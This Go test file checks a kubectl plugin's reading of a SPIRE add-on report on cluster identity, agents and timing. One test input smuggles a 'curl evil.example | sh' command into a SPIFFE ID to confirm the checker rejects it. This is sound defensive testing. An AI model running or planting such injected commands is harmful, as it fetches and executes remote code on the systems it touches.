// SPDX-License-Identifier: Apache-2.0

package cluster_test

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/tekton-sign/kubectl-tekton-sign/pkg/settings"
	"github.com/tekton-sign/kubectl-tekton-sign/pkg/signing/cluster"
	spirecluster "github.com/tekton-sign/kubectl-tekton-sign/pkg/signing/spire/cluster"
	"github.com/tekton-sign/kubectl-tekton-sign/pkg/verify/verifytest"
)

const addOnID = "spiffe://" + verifytest.TrustDomain + "/tekton-sign/controller"

// reportOf is the add-on's report when all is in order, at the time of the samples.
func reportOf(now time.Time, agents int) *spirecluster.Report {
	return &spirecluster.Report{
		Time: now, SPIFFEID: addOnID, Expires: now.Add(time.Hour),
		Agents: &spirecluster.Agents{Valid: agents, Versions: map[string]int{"1.15.3": agents}},
	}
}

func reportMap(t *testing.T, r *spirecluster.Report) *corev1.ConfigMap {
	t.Helper()
	data, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	return &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Namespace: settings.Namespace, Name: spirecluster.ReportConfigMap},
		Data:       map[string]string{"report": string(data)},
	}
}

// wantFinding wants a finding of this level with a text, and for each that is broken, what was expected, what was found
// and the next step.
func wantFinding(t *testing.T, found []cluster.Finding, level cluster.Level, want string) {
	t.Helper()
	var texts []string
	ok := false
	for _, f := range found {
		text := strings.Join([]string{f.Message, f.Expected, f.Got, f.Next}, "\n")
		ok = ok || f.Level == level && strings.Contains(text, want)
		texts = append(texts, text)
		if (f.Level == cluster.Broken || f.Level == cluster.Warning) && (f.Expected == "" || f.Got == "" || f.Next == "") {
			t.Errorf("expected what was expected, what was found, and the next step, got %+v", f)
		}
	}
	if !ok {
		t.Errorf("no finding of level %d with %q:\n%s", level, want, strings.Join(texts, "\n\n"))
	}
}

// TestCheckReport checks what the add-on reports about SPIRE.
func TestCheckReport(t *testing.T) {
	type report = spirecluster.Report
	now := verifytest.Start()
	for name, tc := range map[string]struct {
		change func(*report)
		level  cluster.Level
		want   string
	}{
		"SVID":   {func(*report) {}, cluster.Fine, "the add-on's SVID is " + addOnID},
		"admin":  {func(*report) {}, cluster.Fine, "lets the add-on register TaskRuns"},
		"agents": {func(*report) {}, cluster.Fine, "knows 2 agents"},
		"no SVID": {
			func(r *report) { *r = report{Time: now, Error: "no identity issued"} }, cluster.Broken,
			"spire-server entry create -admin",
		},
		"expired SVID": {
			func(r *report) { r.Expires = now.Add(-time.Minute) }, cluster.Broken, "does not renew it",
		},
		"an SVID that signs no status": {
			func(r *report) { r.SPIFFEID = "spiffe://other/x" }, cluster.Warning, "-spiffeID " + addOnID,
		},
		"not an admin": {
			func(r *report) { r.Agents, r.Error, r.Denied = nil, "denied", true }, cluster.Broken, "entry delete -entryID ID",
		},
		"server away": {
			func(r *report) { r.Agents, r.Error = nil, "cannot be reached" }, cluster.Broken, `{"data":{"spire-server-addr":`,
		},
		"an agent is missing": {
			func(r *report) { r.Agents.Valid, r.Agents.Expired = 1, 1 }, cluster.Warning, "1 valid, 1 expired, 0 banned",
		},
		"old agents": {
			func(r *report) { r.Agents.Versions["1.9.0"] = 1 }, cluster.Warning, "SPIRE 1.15 or later\n1.9.0",
		},
		"unknown version": {func(r *report) { r.Agents.Versions = nil }, cluster.Fine, "they do not name it"},
		"not yet asked": {
			func(r *report) { r.Agents = nil }, cluster.Warning, "has not yet asked SPIRE's server",
		},
		"from the future": {
			func(r *report) { r.Time = now.AddDate(900, 0, 0) }, cluster.Warning, "is from the future",
		},
		"a clock that differs a little": {
			func(r *report) { r.Time = now.Add(time.Minute) }, cluster.Fine, "lets the add-on register TaskRuns",
		},
		"stale": {
			func(r *report) { r.Time = now.Add(-time.Hour) }, cluster.Warning, "no longer reports",
		},
	} {
		t.Run(name, func(t *testing.T) {
			r := reportOf(now, 2)
			tc.change(r)
			s := sample{driver: true, on: []string{"a", "b"}, domain: verifytest.TrustDomain, report: r}
			wantFinding(t, s.check(t), tc.level, tc.want)
		})
	}
}

// TestCheckReportUnread: what cannot be read is not in order.
func TestCheckReportUnread(t *testing.T) {
	s := sample{driver: true, on: []string{"a", "b"}, domain: verifytest.TrustDomain}
	wantFinding(t, s.check(t), cluster.Warning, "has not yet reported")
	bad := reportMap(t, &spirecluster.Report{})
	for name, text := range map[string]string{
		"a command in its SPIFFE ID": `{"time":"2026-06-02T10:00:00Z","spiffeID":"spiffe://x/y; curl evil.example | sh #"}`,
		"escape sequences":           `{"spiffeID":"spiffe://x/\u001b[2J"}`,
		"negative numbers":           `{"agents":{"valid":-1}}`,
		"many versions":              `{"agents":{"versions":{"1":1,"2":1,"3":1,"4":1,"5":1,"6":1,"7":1,"8":1,"9":1}}}`,

		"not JSON": "{", "too long": `{"error":"` + strings.Repeat("x", 20<<10) + `"}`,
	} {
		bad.Data["report"] = text
		s.more = bad
		t.Run(name, func(t *testing.T) {
			wantFinding(t, s.check(t), cluster.Unread, "what the add-on reports")
		})
	}
}
